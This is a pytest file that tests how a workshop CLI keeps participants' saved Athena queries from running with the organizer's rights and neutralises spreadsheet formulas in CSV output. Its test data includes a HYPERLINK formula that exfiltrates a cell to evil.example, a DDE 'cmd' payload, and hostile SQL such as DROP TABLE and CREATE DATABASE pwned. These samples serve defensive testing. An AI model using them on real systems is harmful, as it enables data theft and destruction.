"""What participants can save, against the organizer's commands: with the participants' policy."""

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from tests.support.event import SHOWN, Event, new_event
from tests.support.failing_aws import Failing
from tests.support.stack import STACK
from workshop import queries, readiness
from workshop.account import Account
from workshop.environment import find
from workshop.errors import WorkshopError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def event(server: Failing, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Event]:
    with new_event(server, tmp_path_factory.mktemp("event")) as event:
        yield event


def test_the_lesson_s_number_runs_the_lesson_s_query(event: Event) -> None:
    """A participant's statement would run with the organizer's rights, or nothing would run."""
    (answer,) = json.loads(event.run("query", "02", "--json").stdout)
    assert answer["name"] == "02 Which event types are there"
    assert answer["rows"]


def test_all_runs_nothing_but_the_stack_s_queries(event: Event) -> None:
    """The answer to a participant's query would be theirs to read in athena-results/."""
    answers = json.loads(event.run("query", "--all", "--json").stdout)
    assert len(answers) == 15
    assert all(re.match(r"(0[1-36-9]|1[0-7]) ", answer["name"]) for answer in answers)
    assert "secret" not in {column for answer in answers for column in answer["columns"]}


def test_others_queries_are_listed_as_such(event: Event) -> None:
    """An organizer who cannot tell them from the lesson's trusts them."""
    lesson, added = event.run("query").stdout.split("Not the stack's")
    assert "17 Is it enough to train" in lesson
    assert "Totals" not in lesson
    assert "02a Totals" in added
    assert f"03x {SHOWN}" in added
    assert f"{SHOWN} [red]not red[/]" in added
    listed = json.loads(event.run("query", "--json").stdout)
    assert [one["origin"] for one in listed[:17]] == ["stack"] * 17
    assert {one["origin"] for one in listed[17:]} == {"added"}


def test_another_s_query_runs_by_its_whole_name_and_with_consent(event: Event) -> None:
    """Who runs it must have seen what it does."""
    refused = event.run("query", "02a Totals", code=1).stderr
    assert "CREATE DATABASE pwned" in refused
    assert "--yes" in refused
    assert event.run("query", "02a", code=1).stderr.count("CREATE") == 0
    status, shown = event.on_a_terminal("query", "02a Totals", typed="n\n")
    assert status == 1
    assert "CREATE DATABASE pwned" in shown
    assert "pwned" not in event.databases()
    status, _ = event.on_a_terminal("query", "02a Totals", typed="y\n")
    assert status == 0
    assert "pwned" in event.databases()
    event.owner.client("glue").delete_database(Name="pwned")
    event.run("query", "02a Totals", "--yes")
    assert "pwned" in event.databases()
    event.owner.client("glue").delete_database(Name="pwned")


@pytest.mark.parametrize("sql", ["-- \n" * 5000 + "DROP TABLE interactions", "\n \n"])
def test_what_nobody_can_read_does_not_run(event: Event, sql: str) -> None:
    """Thousands of lines before the one that matters are as good as none shown."""
    name = f"Long {len(sql)}"
    event.save(name, sql)
    error = event.run("query", name, "--yes", code=1).stderr
    assert "--sql" in error
    assert len(error) < 1000


def test_two_queries_of_one_name_are_not_guessed_at(event: Event) -> None:
    """Another could be saved between reading the one and running it."""
    event.save("Twice", "SELECT 1")
    event.save("Twice", "SELECT 2")
    assert "2 saved queries have the name 'Twice'" in event.run("query", "Twice", code=1).stderr


def test_csv_is_exact_in_a_pipe_and_inert_for_a_spreadsheet(event: Event) -> None:
    """A program needs the bytes; a spreadsheet would run some of them."""
    values = [FORMULA, "-5", "-5e3", "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\uff1d1", "fine"]
    texts = ", ".join("'{}'".format(value.replace("'", "''")) for value in values)
    sql = f"SELECT * FROM (VALUES ({texts})) AS t (a, b, c, d, e, f, g, h)"
    exact = event.run("query", "--csv", "--sql", sql).stdout
    assert list(csv.reader(io.StringIO(exact)))[1] == values
    safe = event.run("query", "--spreadsheet", "--sql", sql).stdout
    assert list(csv.reader(io.StringIO(safe)))[1] == [
        value if value in {"-5", "-5e3", "fine"} else f"'{value}" for value in values
    ]


def test_the_fleet_s_results_are_inert_in_a_spreadsheet(event: Event, tmp_path: Path) -> None:
    """The names of accounts come from whoever made them."""
    accounts, results = tmp_path / "accounts.csv", tmp_path / "results.csv"
    quoted = FORMULA.replace('"', '""')
    accounts.write_text(f'account_id,region,name\n{event.account},,"{quoted}"\n')
    event.run("fleet", "check", "--accounts", str(accounts), "--csv", str(results))
    (row,) = csv.DictReader(io.StringIO(results.read_text()))
    assert row["name"] == f"'{FORMULA}"
    assert row["state"] == "ready"


@pytest.fixture
def changed(event: Event) -> Callable[[str, str, str], Account]:
    """The environment as Athena answers after UpdateNamedQuery, which MiniStack does not have."""

    def update(number: str, key: str, value: str) -> Account:
        credentials = event.owner.get_credentials()
        assert credentials
        session = boto3.Session(
            credentials.access_key, credentials.secret_key, region_name=event.owner.region_name
        )

        def answered(parsed: dict[str, Any], **_: object) -> None:
            for query in parsed["NamedQueries"]:
                if query["Name"].startswith(number):
                    query[key] = value

        session.events.register("after-call.athena.BatchGetNamedQuery", answered)
        return Account(session, event.checkout.endpoint)

    return update


@pytest.mark.parametrize(
    ("number", "key", "value"),
    [
        ("03 ", "QueryString", "DROP TABLE interactions"),
        ("05 ", "QueryString", "CREATE EXTERNAL TABLE mine (a string) LOCATION 's3://mine/'"),
        ("03 ", "Database", "default"),
        ("03 ", "Name", "02 Which event types are there"),
    ],
)
def test_the_stack_s_query_is_the_stack_s_while_it_says_what_was_deployed(
    changed: Callable[[str, str, str], Account], number: str, key: str, value: str
) -> None:
    """A changed query keeps its id, and would run as if it were the lesson's."""
    account = changed(number, key, value)
    environment = find(account, STACK)
    own = queries.own(account, environment)
    assert len(own) == 16
    assert all(not query.name.startswith(number) for query in own)
    first = next(queries.others(account, environment))
    assert first.origin == "changed"
    with pytest.raises(WorkshopError, match="No saved query matches"):
        queries.choose(own, [], number)
    failed = [check for check in readiness.check(account, environment) if not check.passed]
    assert [check.found for check in failed] == [f"Athena{number.strip()} is not as deployed"]
